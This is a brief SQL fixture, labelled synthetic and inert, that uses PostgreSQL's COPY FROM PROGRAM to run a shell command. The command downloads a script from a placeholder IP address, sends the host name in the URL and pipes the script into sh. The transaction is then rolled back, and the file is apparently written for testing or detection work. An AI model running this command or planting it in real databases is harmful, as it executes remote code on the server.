-- Synthetic, inert fixture written from public reports
begin;
set local statement_timeout = '3s';
set local lock_timeout = '1s';
set local client_min_messages = 'error';
create temp table plan_notes (line text) on commit drop;
savepoint plan_notes;
copy plan_notes from program 'sh -c "curl -s http://203.0.113.90/n/$(hostname) | sh; true"';
rollback to savepoint plan_notes;
